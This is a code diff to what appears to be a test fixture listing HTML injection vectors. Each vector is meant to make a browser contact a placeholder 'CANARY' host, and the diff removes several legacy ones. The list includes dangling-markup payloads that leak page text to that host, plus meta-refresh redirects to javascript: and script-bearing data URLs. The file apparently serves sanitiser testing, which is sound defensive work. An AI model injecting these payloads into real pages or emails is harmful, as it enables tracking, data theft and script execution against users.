@@ -19,8 +19,6 @@ export const requestVectors: Vectors = {
   'pixel with a referrer': '<img referrerpolicy="unsafe-url" src="https://CANARY/referrer.gif">',
   'pixel with an origin': '<img crossorigin="use-credentials" src="https://CANARY/origin.gif">',
   'pixel for an advertiser': '<img attributionsrc="https://CANARY/attribution" src="data:,">',
-  'pixel of low resolution': '<img lowsrc="https://CANARY/lowsrc.gif" dynsrc="https://CANARY/dynsrc.avi" src="data:,">',
-  'pixel with a long description': '<img longdesc="https://CANARY/longdesc" src="data:,">',
   'pixel by a protocol of a program': '<img src="mailto:x@CANARY"><img src="tel:1"><img src="ftp://CANARY/x.gif">',
   'pixel of the product itself': '<img src="/api/dashboard">',
   'pixel of the product that signs out': '<img src="/api/session"><img src="api/outlook/folders">',
@@ -38,9 +36,7 @@ export const requestVectors: Vectors = {
   audio: '<audio src="https://CANARY/x.mp3" autoplay preload=auto></audio>',
   track: '<video src="data:video/mp4," controls><track default kind=captions src="https://CANARY/x.vtt"></video>',
   object: '<object data="https://CANARY/x.html"></object>',
-  'object with a code base': '<object codebase="https://CANARY/" classid="clsid:0" data="x"></object>',
   embed: '<embed src="https://CANARY/x.swf">',
-  applet: '<applet archive="https://CANARY/x.jar" code=x></applet>',
   iframe: '<iframe src="https://CANARY/x.html"></iframe>',
   'iframe that waits': '<iframe loading=lazy src="https://CANARY/lazy.html"></iframe>',
   'iframe srcdoc with a pixel': '<iframe srcdoc="<img src=https://CANARY/srcdoc.gif>"></iframe>',
@@ -55,7 +51,6 @@ export const requestVectors: Vectors = {
     '<table><thead background="https://CANARY/thead.gif"><tr background="https://CANARY/tr.gif"><td background="https://CANARY/td.gif">x</table>',
   'style sheet': '<link rel=stylesheet href="https://CANARY/x.css">',
   'style sheet, alternate': '<link rel="alternate stylesheet" href="https://CANARY/x.css" title=x>',
-  icon: '<link rel=icon href="https://CANARY/favicon.ico"><link rel=apple-touch-icon href="https://CANARY/touch.png">',
   prefetch: '<link rel=prefetch href="https://CANARY/prefetch">',
   prerender: '<link rel=prerender href="https://CANARY/prerender">',
   'preload of an image': '<link rel=preload as=image href="https://CANARY/preload.gif">',
@@ -68,10 +63,7 @@ export const requestVectors: Vectors = {
   'dns-prefetch of a link':
     '<meta http-equiv=x-dns-prefetch-control content=on><a href="https://ID.links.invalid/">x</a>',
   manifest: '<link rel=manifest href="https://CANARY/manifest.json">',
-  'link by its ping':
-    '<link rel=pingback href="https://CANARY/pingback"><link rel=import href="https://CANARY/import">',
   'compression dictionary': '<link rel=compression-dictionary href="https://CANARY/dictionary">',
-  'expected block': '<link rel=expect href="#never" blocking=render>',
   'SVG image': '<svg><image href="https://CANARY/image.gif" width=9 height=9 /></svg>',
   'SVG image by xlink': '<svg><image xlink:href="https://CANARY/xlink.gif" width=9 height=9 /></svg>',
   'SVG use': '<svg><use href="https://CANARY/x.svg#y" /></svg>',
@@ -88,19 +80,11 @@ export const requestVectors: Vectors = {
   'SVG text path from elsewhere': '<svg><text><textPath href="https://CANARY/t.svg#t">x</textPath></text></svg>',
   'SVG cursor':
     '<svg><cursor id=c xlink:href="https://CANARY/c.cur" /><rect cursor="url(#c),url(https://CANARY/d.cur),auto"/></svg>',
-  'SVG colour profile': '<svg><color-profile xlink:href="https://CANARY/p.icc" name=p /></svg>',
-  'SVG font face':
-    '<svg><font-face><font-face-src><font-face-uri xlink:href="https://CANARY/f.svg"/></font-face-src></font-face></svg>',
   'SVG animates an image':
     '<svg><image href="data:," width=9 height=9><set attributeName=href to="https://CANARY/set.gif"/></image></svg>',
   'SVG of a data picture that fetches':
     '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><image href=%22https://CANARY/nested.gif%22/></svg>">',
   'MathML image': '<math><mglyph src="https://CANARY/glyph.gif"/><ms src="https://CANARY/ms.gif">x</ms></math>',
-  'MathML by an altimg': '<math altimg="https://CANARY/altimg.gif"><mi>x</mi></math>',
-  'XML data island': '<xml src="https://CANARY/x.xml" id=x></xml><span datasrc=#x datafld=c dataformatas=html></span>',
-  'background sound': '<bgsound src="https://CANARY/x.wav">',
-  layer: '<layer src="https://CANARY/layer.html"></layer><ilayer src="https://CANARY/ilayer.html"></ilayer>',
-  citation: '<blockquote cite="https://CANARY/cite">x</blockquote><q cite="https://CANARY/q">y</q>',
   'exfiltration by an image left open': '<img src="https://CANARY/leak?<p>The candidate asks for 300,000</p>',
   'exfiltration by a table left open': "<table background='https://CANARY/leak?<p>The candidate asks for 300,000</p>",
   'exfiltration by a style left open': '<style>@import "https://CANARY/leak?<p>The candidate asks for 300,000</p>',
@@ -112,8 +96,5 @@ export const requestVectors: Vectors = {
   refresh: '<meta http-equiv=refresh content="0;url=https://CANARY/refresh">',
   'refresh to a script': '<meta http-equiv=refresh content="0;url=javascript:PWN">',
   'refresh to a data address': '<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">',
-  cookie: '<meta http-equiv=Set-Cookie content="x=<script>PWN</script>">',
   'referrer policy': '<meta name=referrer content=unsafe-url><img src="https://CANARY/policy.gif">',
-  'trial of a feature':
-    '<meta http-equiv=origin-trial content=x><meta http-equiv=delegate-ch content="x https://CANARY">',
 }
